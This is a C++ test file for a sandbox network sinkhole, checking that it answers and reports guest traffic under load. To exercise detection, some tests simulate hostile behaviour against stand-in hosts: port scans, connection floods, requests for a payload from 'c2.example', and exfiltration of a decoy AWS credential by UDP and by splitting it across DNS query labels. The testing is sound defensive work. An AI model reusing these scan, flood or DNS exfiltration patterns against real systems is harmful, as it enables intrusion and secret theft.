// The sinkhole under load and under odd clients, without a guest: the test itself speaks from inside the
// guest's network namespace.
#include <arpa/inet.h>
#include <netinet/icmp6.h>
#include <netinet/ip_icmp.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>

#include <algorithm>
#include <map>
#include <set>

#include "agent/world.h"
#include "tests/e2e/chamber.h"

namespace assay::chamber {
namespace {

Result<Fd> dial(int type, const std::string& ip, uint16_t port, int protocol = 0) {
  bool six = ip.find(':') != std::string::npos;
  Fd fd(::socket(six ? AF_INET6 : AF_INET, type | SOCK_CLOEXEC, protocol));
  timeval patience{5, 0};
  sockaddr_in four{};
  four.sin_family = AF_INET;
  four.sin_port = htons(port);
  ::inet_pton(AF_INET, ip.c_str(), &four.sin_addr);
  sockaddr_in6 longer{};
  longer.sin6_family = AF_INET6;
  longer.sin6_port = htons(port);
  ::inet_pton(AF_INET6, ip.c_str(), &longer.sin6_addr);
  auto* to = six ? reinterpret_cast<sockaddr*>(&longer) : reinterpret_cast<sockaddr*>(&four);
  if (!fd || ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience) != 0 ||
      ::connect(fd.get(), to, six ? sizeof longer : sizeof four) != 0)
    return errno_error("connect");
  return fd;
}

std::string receive(const Fd& fd) {
  char buffer[8192];
  ssize_t n = ::recv(fd.get(), buffer, sizeof buffer, 0);
  return n < 0 ? "<error>" : std::string(buffer, static_cast<size_t>(n));
}

const std::string kQuery("\x12\x34\x01\0\0\1\0\0\0\0\0\0\4pool\7example\3com\0\0\1\0\1", 34);
const std::string kSecret = "ZqT4vXw8LmN2pRs6YbCdKfGh7JkP0aQe";

std::string query(const std::string& label) {
  return kQuery.substr(0, 12) + static_cast<char>(label.size()) + label + kQuery.substr(17);
}

lure::Lures lures_with_a_token() {
  lure::Lures out;
  out.tokens = {{"aws_key:/root/.aws/credentials", "aws_key", "/root/.aws/credentials", {kSecret}}};
  return out;
}

// "kind proto dst:port name call data" of what is not HTTP's own account.
std::string told(const Event& event) {
  return std::string(to_string(event.kind)) + " " + event.proto + " " + event.dst_addr + ":" +
         std::to_string(event.dst_port) + " " + event.name + " [" + event.call + "] " + event.data;
}

// What a process holds in memory, in MiB, at its highest.
long peak_mib(pid_t pid) {
  auto status = read_file("/proc/" + std::to_string(pid) + "/status", 65536);
  size_t at = status ? status->find("VmHWM:") : std::string::npos;
  return at == std::string::npos ? -1 : std::atol(status->c_str() + at + 6) / 1024;
}

class SinkholeTest : public testing::Test {
 protected:
  void SetUp() override {
    REQUIRE_HOST();
    auto listener = listen_at(dir_.path() / "docker.sock");
    ASSERT_TRUE(listener) << listener.error().what;
    std::vector<DecoySocket> decoys;
    decoys.push_back(
        {"docker.sock", dir_.path() / "docker.sock", "/var/run/docker.sock", std::move(*listener)});
    auto network = Network::create();
    ASSERT_TRUE(network) << network.error().what;
    network_.emplace(std::move(*network));
    auto world = World::start(*network_, lures_with_a_token(), decoys, 0);
    ASSERT_TRUE(world) << world.error().what;
    world_.emplace(std::move(*world));
  }
  void inside(const std::function<Status()>& f) {
    auto done = in_net_ns(network_->guest_ns(), f);
    ASSERT_TRUE(done) << done.error().what;
  }
  static sockaddr_un unix_address(const fs::path& path) {
    sockaddr_un at{};
    at.sun_family = AF_UNIX;
    path.string().copy(at.sun_path, sizeof at.sun_path - 1);
    return at;
  }
  static Result<Fd> listen_at(const fs::path& path) {
    Fd fd(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
    sockaddr_un at = unix_address(path);
    if (!fd || ::bind(fd.get(), reinterpret_cast<sockaddr*>(&at), sizeof at) != 0 ||
        ::listen(fd.get(), 16) != 0)
      return errno_error("make a decoy");
    return fd;
  }
  Result<Fd> dial_decoy() {
    Fd fd(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_un at = unix_address(dir_.path() / "docker.sock");
    timeval patience{5, 0};
    if (!fd || ::connect(fd.get(), reinterpret_cast<sockaddr*>(&at), sizeof at) != 0 ||
        ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience) != 0)
      return errno_error("connect to the decoy");
    return fd;
  }
  TempDir dir_;
  std::optional<Network> network_;
  std::optional<World> world_;
};

TEST_F(SinkholeTest, EveryPortOfAScanIsReported) {
  inside([]() -> Status {
    for (uint16_t port = 1; port <= 1500; ++port) {
      ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "203.0.113.7", port));
    }
    return Status();
  });
  std::set<uint32_t> ports;
  for (const Event& event : world_->finish()) ports.insert(event.dst_port);
  EXPECT_EQ(ports.size(), 1500u);
  EXPECT_EQ(world_->lost(), 0u);
}

TEST_F(SinkholeTest, OldestConnectionMakesRoomAndIsReported) {
  rlimit files{};
  ASSERT_EQ(::getrlimit(RLIMIT_NOFILE, &files), 0);
  rlimit more = files;
  more.rlim_cur = std::min<rlim_t>(8192, files.rlim_max);
  ASSERT_EQ(::setrlimit(RLIMIT_NOFILE, &more), 0);
  ASSAY_NEED(more.rlim_cur >= 5000, "5000 open files");
  std::vector<Fd> held;
  std::string first, last;
  inside([&]() -> Status {
    for (int i = 0; i < 4500; ++i) {
      ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "203.0.113.8", static_cast<uint16_t>(1000 + i)));
      held.push_back(std::move(fd));
    }
    first = receive(held.front());
    ASSAY_CHECK(write_all(held.back().get(), "GET / HTTP/1.0\r\n\r\n", "the last"));
    last = receive(held.back());
    return Status();
  });
  EXPECT_EQ(first, "");  // closed by the other side
  EXPECT_EQ(last.substr(0, 15), "HTTP/1.1 200 OK");
  held.clear();
  std::set<uint32_t> ports;
  for (const Event& event : world_->finish()) ports.insert(event.dst_port);
  EXPECT_EQ(ports.size(), 4500u);
  EXPECT_EQ(world_->lost(), 0u);
  ::setrlimit(RLIMIT_NOFILE, &files);
}

TEST_F(SinkholeTest, AnswersDnsOverTcpInPieces) {
  std::string reply;
  inside([&]() -> Status {
    ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "8.8.8.8", 53));
    std::string framed = std::string("\0\x22", 2) + kQuery;
    framed += framed;
    ASSAY_CHECK(write_all(fd.get(), framed.substr(0, 1), "tcp"));
    ASSAY_CHECK(write_all(fd.get(), framed.substr(1, 50), "tcp"));
    reply = receive(fd);
    ASSAY_CHECK(write_all(fd.get(), framed.substr(51), "tcp"));
    reply += receive(fd);
    return Status();
  });
  ASSERT_EQ(reply.size(), 2u * (2 + 50));
  EXPECT_EQ(reply.substr(2, 2), "\x12\x34");
  std::string seen;
  for (const Event& event : world_->finish())
    seen += std::string(to_string(event.kind)) + " " + event.proto + " " + event.dst_addr + " " + event.name +
            "\n";
  EXPECT_EQ(seen,
            "dns tcp 8.8.8.8 pool.example.com\ndns tcp 8.8.8.8 pool.example.com\nsession tcp 8.8.8.8 \n");
}

TEST_F(SinkholeTest, LongUploadIsKeptToItsFirstBytesAndCounted) {
  inside([&]() -> Status {
    ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "198.51.100.1", 4444));
    return write_all(fd.get(), "start" + std::string(300'000, 'x'), "upload");
  });
  auto events = world_->finish();
  ASSERT_EQ(events.size(), 1u);  // its first bytes are told, and there is no second report for the rest
  EXPECT_EQ(events[0].data.size(), 4096u);
  EXPECT_EQ(events[0].data.substr(0, 6), "startx");
  EXPECT_GT(events[0].truncated, 0u);
  EXPECT_EQ(events[0].bytes_out, events[0].truncated + 4096);
}

TEST_F(SinkholeTest, WhatArrivedJustBeforeTheEndIsStillReported) {
  std::vector<Fd> held;
  inside([&]() -> Status {
    for (int i = 0; i < 700; ++i) {
      ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "198.51.100.2", 4444));
      ASSAY_CHECK(write_all(fd.get(), "last words", "tcp"));
      held.push_back(std::move(fd));
    }
    return Status();
  });
  size_t heard = 0;
  for (const Event& event : world_->finish()) heard += event.data == "last words";
  EXPECT_EQ(heard, 700u);
}

TEST_F(SinkholeTest, HalfClosedClientStillGetsItsAnswer) {
  std::string reply;
  inside([&]() -> Status {
    ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "198.51.100.1", 80));
    ASSAY_CHECK(write_all(fd.get(), "GET / HTTP/1.1\r\n\r\n", "request"));
    ::shutdown(fd.get(), SHUT_WR);
    reply = receive(fd);
    return Status();
  });
  EXPECT_EQ(reply.substr(0, 15), "HTTP/1.1 200 OK");
}

TEST_F(SinkholeTest, FloodIsAnsweredOrCountedButNeverLostInSilence) {
  constexpr uint64_t kSent = 40'000;
  inside([&]() -> Status {
    ASSAY_TRY(Fd fd, dial(SOCK_DGRAM, "172.17.0.1", 53));
    for (uint64_t i = 0; i < kSent; ++i)
      if (::send(fd.get(), kQuery.data(), kQuery.size(), 0) < 0) return errno_error("send");
    return Status();
  });
  auto events = world_->finish();
  EXPECT_GT(world_->lost(), 0u);
  // What the kernel itself dropped on its way is told with the next datagram that arrives: the last ones may
  // be untold.
  EXPECT_EQ(events.size() + world_->lost(), world_->seen());
  EXPECT_LE(world_->seen(), kSent);
  EXPECT_GT(events.size(), 7000u);
  EXPECT_TRUE(world_->running());
}

TEST_F(SinkholeTest, WhatAReportedSessionSaysLaterIsToldAtItsEnd) {
  inside([]() -> Status {
    ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "198.51.100.3", 4444));
    ASSAY_CHECK(write_all(fd.get(), "first ", "tcp"));
    ::usleep(500'000);
    ASSAY_CHECK(write_all(fd.get(), "second", "tcp"));
    ::usleep(100'000);
    return Status();
  });
  std::string seen;
  for (const Event& event : world_->finish())
    seen += told(event) + " " + std::to_string(event.bytes_out) + "\n";
  EXPECT_EQ(seen,
            "session tcp 198.51.100.3:4444  [] first  6\n"
            "session tcp 198.51.100.3:4444  [closed] second 12\n");
}

TEST_F(SinkholeTest, BothFamiliesAreAnsweredAndReportedAlike) {
  ASSAY_NEED(fs::exists("/proc/sys/net/ipv6"), "a kernel with IPv6");
  std::string web, name;
  inside([&]() -> Status {
    for (const char* ip : {"203.0.113.7", "2001:db8::7"}) {
      ASSAY_TRY(Fd tcp, dial(SOCK_STREAM, ip, 8080));
      ASSAY_CHECK(write_all(tcp.get(), "GET / HTTP/1.0\r\n\r\n", "tcp"));
      web += receive(tcp).substr(0, 15) + ";";
      ASSAY_TRY(Fd udp, dial(SOCK_DGRAM, ip, 53));
      if (::send(udp.get(), kQuery.data(), kQuery.size(), 0) < 0) return errno_error("send");
      name += std::to_string(receive(udp).size()) + ";";
      ASSAY_TRY(Fd other, dial(SOCK_DGRAM, ip, 9999));
      if (::send(other.get(), "hello", 5, 0) < 0) return errno_error("send");
    }
    return Status();
  });
  EXPECT_EQ(web, "HTTP/1.1 200 OK;HTTP/1.1 200 OK;");
  EXPECT_EQ(name, "50;50;");
  std::map<std::string, std::set<std::string>> seen;
  for (const Event& event : world_->finish())
    seen[event.dst_addr + " " + event.src_addr].insert(std::string(to_string(event.kind)) + " " +
                                                       event.proto + " " + std::to_string(event.dst_port));
  std::set<std::string> all = {"session tcp 8080", "http tcp 8080", "dns udp 53", "session udp 9999"};
  EXPECT_EQ(seen, (std::map<std::string, std::set<std::string>>{{"203.0.113.7 172.17.0.2", all},
                                                                {"2001:db8::7 fd00:172:17::2", all}}));
  EXPECT_EQ(world_->lost(), 0u);
}

TEST_F(SinkholeTest, DecoySocketIsAnsweredAndReportedByItsName) {
  auto fd = dial_decoy();
  ASSERT_TRUE(fd) << fd.error().what;
  ASSERT_TRUE(write_all(fd->get(), "GET /_ping HTTP/1.1\r\nHost: localhost\r\n\r\n", "decoy"));
  EXPECT_EQ(receive(*fd).substr(0, 15), "HTTP/1.1 200 OK");
  bool session = false;
  for (const Event& event : world_->finish()) {
    EXPECT_EQ(event.proto + " " + event.name + " " + event.src_addr + event.dst_addr, "unix docker.sock ");
    EXPECT_EQ(event.src_port + event.dst_port, 0u);
    if (event.kind != EventKind::session) continue;
    session = true;
    EXPECT_EQ(event.path, "docker.sock");
    EXPECT_EQ(event.data.substr(0, 10), "GET /_ping");
  }
  EXPECT_TRUE(session);
  EXPECT_EQ(world_->lost(), 0u);
}

TEST_F(SinkholeTest, BurstOfRandomNamesDoesNotExist) {
  int refused = 0, resolved = 0;
  inside([&]() -> Status {
    ASSAY_TRY(Fd fd, dial(SOCK_DGRAM, "172.17.0.1", 53));
    std::string label = "xqzkvwjbtpfg";
    for (int i = 0; i < 26; ++i) {
      label[0] = static_cast<char>('a' + i);
      std::string packet = kQuery.substr(0, 12) + '\x0c' + label + std::string("\3com\0\0\1\0\1", 9);
      if (::send(fd.get(), packet.data(), packet.size(), 0) < 0) return errno_error("send");
      std::string reply = receive(fd);
      if (reply.size() < 12) return Error{Errc::io, "no reply"};
      ++((reply[3] & 15) == 3 ? refused : resolved);
    }
    return Status();
  });
  EXPECT_EQ(std::to_string(resolved) + " " + std::to_string(refused), "8 18");
  for (const Event& event : world_->finish()) refused -= event.kind == EventKind::dns && event.result == 3;
  EXPECT_EQ(refused, 0);
}

TEST_F(SinkholeTest, TokenIsSeenInDatagramsAndInNames) {
  inside([&]() -> Status {
    ASSAY_TRY(Fd udp, dial(SOCK_DGRAM, "198.51.100.9", 9999));
    for (const std::string& piece : {std::string("first"), "key=" + kSecret})
      if (::send(udp.get(), piece.data(), piece.size(), 0) < 0) return errno_error("send");
    ASSAY_TRY(Fd dns, dial(SOCK_DGRAM, "172.17.0.1", 53));
    for (const std::string& packet :
         {query(kSecret.substr(0, 12)), query(kSecret.substr(12, 12)), query(kSecret.substr(24))})
      if (::send(dns.get(), packet.data(), packet.size(), 0) < 0 || receive(dns).size() < 12)
        return errno_error("send");
    return Status();
  });
  std::string seen;
  for (const Event& event : world_->finish())
    if (event.kind == EventKind::token)
      seen += event.call + " " + event.path + " " + event.path2 + " " + event.proto + " " + event.dst_addr +
              ":" + std::to_string(event.dst_port) + " " + event.name + " " + event.app + "\n";
  EXPECT_EQ(seen,
            "sent aws_key:/root/.aws/credentials plain udp 198.51.100.9:9999  \n"
            "sent aws_key:/root/.aws/credentials plain udp 172.17.0.1:53 example.com dns\n");
}

// Downloads that nobody reads: beyond the bound on all of them the oldest go, and who comes later is
// answered.
TEST_F(SinkholeTest, ManyWhoDoNotReadDoNotStopTheOthers) {
  std::string last;
  std::vector<Fd> held;
  inside([&]() -> Status {
    std::string requests;
    for (int i = 0; i < 16; ++i) requests += "GET /payload.elf HTTP/1.1\r\nHost: c2.example\r\n\r\n";
    for (int i = 0; i < 500; ++i) {
      ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "198.51.100.10", 80));
      int little = 4096;
      ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVBUF, &little, sizeof little);
      ASSAY_CHECK(write_all(fd.get(), requests, "tcp"));
      held.push_back(std::move(fd));
    }
    ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "198.51.100.11", 80));
    ASSAY_CHECK(write_all(fd.get(), "GET / HTTP/1.0\r\n\r\n", "tcp"));
    last = receive(fd).substr(0, 15);
    return Status();
  });
  EXPECT_EQ(last, "HTTP/1.1 200 OK");
  EXPECT_TRUE(world_->running());
  EXPECT_LT(peak_mib(sinkhole_of_ours()), 700);
}

// Uploads that never end, of which a conversation may hold 8 MiB each.
TEST_F(SinkholeTest, ManyWhoSendWithoutEndDoNotFillTheMemory) {
  std::string last;
  std::vector<Fd> held;
  inside([&]() -> Status {
    const std::string head = "POST /upload HTTP/1.1\r\nHost: c2.example\r\nContent-Length: 8388608\r\n\r\n";
    const std::string body(8'000'000, 'x');
    for (int i = 0; i < 130; ++i) {
      ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "198.51.100.12", 80));
      ASSAY_CHECK(write_all(fd.get(), head, "tcp"));
      ASSAY_CHECK(write_all(fd.get(), body, "tcp"));
      held.push_back(std::move(fd));
    }
    ASSAY_TRY(Fd fd, dial(SOCK_STREAM, "198.51.100.11", 80));
    ASSAY_CHECK(write_all(fd.get(), "GET / HTTP/1.0\r\n\r\n", "tcp"));
    last = receive(fd).substr(0, 15);
    return Status();
  });
  EXPECT_EQ(last, "HTTP/1.1 200 OK");
  EXPECT_TRUE(world_->running());
  EXPECT_LT(peak_mib(sinkhole_of_ours()), 700);
}

TEST_F(SinkholeTest, EchoIsAnsweredFromAnywhereButTheGuestsOwnSubnet) {
  std::string seen;
  auto ping = [](const std::string& ip) -> Result<std::string> {
    bool six = ip.find(':') != std::string::npos;
    ASSAY_TRY(Fd fd,
              dial(SOCK_RAW, ip, 0, six ? static_cast<int>(IPPROTO_ICMPV6) : static_cast<int>(IPPROTO_ICMP)));
    timeval patience{0, 300'000};
    ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    // With its checksum; the kernel makes that of ICMPv6.
    std::string echo = six ? std::string("\x80\0\0\0\0\0\0\0", 8) : std::string("\x08\0\xf7\xff\0\0\0\0", 8);
    if (::send(fd.get(), echo.data(), echo.size(), 0) < 0) return errno_error("send");
    for (int i = 0; i < 8; ++i) {  // a raw socket hears the neighbours, too
      std::string reply = receive(fd);
      if (reply == "<error>") break;
      if (six ? static_cast<uint8_t>(reply[0]) == ICMP6_ECHO_REPLY
              : reply.size() >= 28 && reply[20] == ICMP_ECHOREPLY)
        return std::string("reply ");
    }
    return std::string("silence ");
  };
  inside([&]() -> Status {
    for (const char* ip : {"93.184.216.34", "172.17.0.77", "2001:db8::34", "fd00:172:17::77"}) {
      ASSAY_TRY(std::string heard, ping(ip));
      seen += heard;
    }
    return Status();
  });
  EXPECT_EQ(seen, "reply silence reply silence ");
}

}  // namespace
}  // namespace assay::chamber
